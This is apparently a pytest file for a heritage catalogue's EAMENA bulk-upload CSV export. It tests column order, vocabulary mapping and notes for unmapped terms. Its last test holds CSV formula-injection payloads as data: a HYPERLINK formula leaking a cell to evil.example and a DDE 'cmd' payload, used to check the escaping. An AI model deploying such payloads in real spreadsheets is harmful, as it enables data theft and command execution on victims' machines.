"""`heritage export eamena`: EAMENA's Heritage Place bulk upload columns, our terms mapped onto
EAMENA's own (each checked against a committed excerpt of its vocabularies), blanks with a note
where there is no faithful term, and text that cannot run as a formula."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pytest

from conftest import report_doc, site_doc
from heritage.codec import decode
from heritage.exports import Scope, eamena, export
from heritage.models import ConditionReport, Site
from heritage.models.vocab import EAMENA_DAMAGE_SEVERITY
from heritage.store import Catalogue

DATA = Path(__file__).parent / "data" / "eamena"


def vocabulary() -> dict[str, set[str]]:
    """The excerpt's lists: name -> terms."""
    lists: dict[str, set[str]] = {}
    current: set[str] = set()
    for line in (DATA / "vocabulary_excerpt.txt").read_text(encoding="utf-8").splitlines():
        if line.startswith("== "):
            name = re.sub(r" \(.*$", "", line[3:])
            current = lists.setdefault(name, set())
        elif line.startswith("  - "):
            current.add(line[4:].strip())
    return lists


def add(catalogue: Catalogue, site: dict[str, object], *reports: dict[str, object]) -> None:
    catalogue.add_site(decode(Site, json.dumps(site).encode()))
    for report in reports:
        catalogue.add_report(decode(ConditionReport, json.dumps(report).encode()))


def exported(catalogue: Catalogue, tmp_path: Path, audience: str = "mission") -> list[dict[str, str]]:
    scope = Scope.load(catalogue, catalogue.sites(), audience)
    path = tmp_path / "eamena.csv"
    export(scope, "eamena", path)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def first_row(rows: list[dict[str, str]], site_id: str) -> dict[str, str]:
    return next(r for r in rows if r["UNIQUEID"] == site_id)


def test_columns_are_the_templates_in_its_order_then_ours() -> None:
    with (DATA / "bu_template_241029_header.csv").open(encoding="utf-8", newline="") as handle:
        template = next(csv.reader(handle))
    assert len(template) == 99
    assert eamena.HEADER[: len(template)] == template
    assert eamena.HEADER[len(template) :] == [eamena.SEVERITY, eamena.NOTES]


def test_the_file_starts_with_the_template_header(catalogue: Catalogue, tmp_path: Path) -> None:
    rows = exported(catalogue, tmp_path)
    assert list(rows[0]) == eamena.HEADER


def test_every_mapped_term_is_an_eamena_term() -> None:
    lists = vocabulary()
    checks = [
        (EAMENA_DAMAGE_SEVERITY.values(), "Overall Damage Severity"),
        (eamena.CONDITION_STATE.values(), "Overall Condition State"),
        (eamena.EXTENT.values(), "Disturbance Extent Type"),
        ([term for _, term in eamena.CAUSE.values()], "Disturbance Cause Type"),
        ([c for c, _ in eamena.CAUSE.values() if c], "Disturbance Cause Category Type"),
        (eamena.EFFECT.values(), "Disturbance Effect Type"),
        (eamena.ACTIVITY.values(), "Assessment Activity Type"),
        (eamena.PLACE_TYPE.values(), "Heritage Classification"),
        (eamena.FUNCTION.values(), "Site Function Type"),
        (eamena.DESIGNATION.values(), "Type Of Designation Or Protection"),
        (["Center Point", "Vicinity Point"], "Geometry Qualifier"),
        (["General Description"], "Description Type"),
        (["Unknown"], "Threat Type"),
        (eamena.THREAT_PROBABILITY.values(), "Threat Certainty Type"),
    ]
    for terms, name in checks:
        missing = set(terms) - lists[name]
        assert not missing, f"not in EAMENA's {name}: {missing}"


def test_current_condition_carries_the_mapped_severity(catalogue: Catalogue, tmp_path: Path) -> None:
    row = first_row(exported(catalogue, tmp_path), "st-sargis")  # r-2: destroyed, collapse
    assert row["Overall Damage Severity"] == "Destroyed"
    assert row["Overall Condition State"] == "Destroyed"
    assert row["Effect Type"] == "Collapse/Structural Damage"
    assert row["Assessment Activity Type"] == "Condition Assessment (Image Interpretation)"
    assert row["Geometric Place Expression"] == "POINT(46.93 39.57)"
    assert row["Geometry Qualifier"] == "Center Point"
    assert row["Heritage Place Type"] == "Structural Heritage"
    assert row["Heritage Place Function"] == "Religious"
    assert row["Information Resource Used"] == "CHW storymap <https://example.org/chw>"
    assert row["heritage notes"] == ""


@pytest.mark.parametrize("condition", ["damaged", "altered", "threatened"])
def test_a_condition_without_an_eamena_severity_is_blank_and_noted(
    catalogue: Catalogue, tmp_path: Path, condition: str
) -> None:
    add(catalogue, site_doc("other"), report_doc("r-o", site="other", condition=condition))
    row = first_row(exported(catalogue, tmp_path), "other")
    assert row["Overall Damage Severity"] == ""
    assert row["Overall Condition State"] == ""
    assert f"condition {condition}: no EAMENA Overall Damage Severity term" in row["heritage notes"]
    if condition == "damaged":
        assert row["Damage Extent Type"] == "Unknown"
    if condition == "threatened":
        assert (row["Threat Category"], row["Threat Type"]) == ("Unknown", "Unknown")


def test_causes_and_effects_map_or_are_noted(catalogue: Catalogue, tmp_path: Path) -> None:
    report = report_doc(
        "r-o",
        site="other",
        observed="2022-03-05/2022-07-06",
        condition="severe_damage",
        damage_extent="31-60%",
        damage_causes=["explosion_heavy_weaponry", "vandalism", "fire"],
        damage_effects=["burning", "identity_markers_removed", "collapse"],
    )
    add(catalogue, site_doc("other"), report)
    rows = [r for r in exported(catalogue, tmp_path) if r["UNIQUEID"] == "other"]
    causes = [
        (r["Disturbance Cause Category Type"], r["Disturbance Cause Type"]) for r in rows if r["Disturbance Cause Type"]
    ]
    assert causes == [("Military/Armed Conflict", "Explosion/Heavy Weaponry"), ("", "Fire")]
    assert rows[0]["Effect Type"] == "Burning|Collapse/Structural Damage"
    assert rows[0]["Disturbance Date Occurred Before"] == "2022-07-06"
    assert rows[0]["Damage Extent Type"] == "31-60%"
    assert rows[0]["Overall Damage Severity"] == "Severe Damage"
    assert "cause vandalism: no EAMENA Disturbance Cause Type" in rows[0]["heritage notes"]
    assert "effect identity_markers_removed: no EAMENA Disturbance Effect Type" in rows[0]["heritage notes"]


def test_repeated_groups_follow_on_rows_with_the_same_uniqueid(catalogue: Catalogue, tmp_path: Path) -> None:
    rows = [r for r in exported(catalogue, tmp_path) if r["UNIQUEID"] == "st-sargis"]
    assert [r["Resource Name"] for r in rows] == ["St Sargis", "Սուրբ Սարգիս"]
    following = {name for name, value in rows[1].items() if value}
    assert following == {"UNIQUEID", "Resource Name"}


def test_the_public_sees_no_login(catalogue: Catalogue, tmp_path: Path) -> None:
    assert first_row(exported(catalogue, tmp_path), "st-sargis")["Assessment Investigator - Actor"] == "tester"
    assert first_row(exported(catalogue, tmp_path, "public"), "st-sargis")["Assessment Investigator - Actor"] == ""


def test_hostile_text_cannot_run_as_a_formula(catalogue: Catalogue, tmp_path: Path) -> None:
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    site = site_doc("hostile", names=[{"lang": "en", "text": hostile}], description="+1+cmd|' /C calc'!A0")
    add(catalogue, site, report_doc("r-h", site="hostile", notes="@SUM(1)"))
    exported(catalogue, tmp_path)
    with (tmp_path / "eamena.csv").open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert "'" + hostile in cells
    assert "'+1+cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
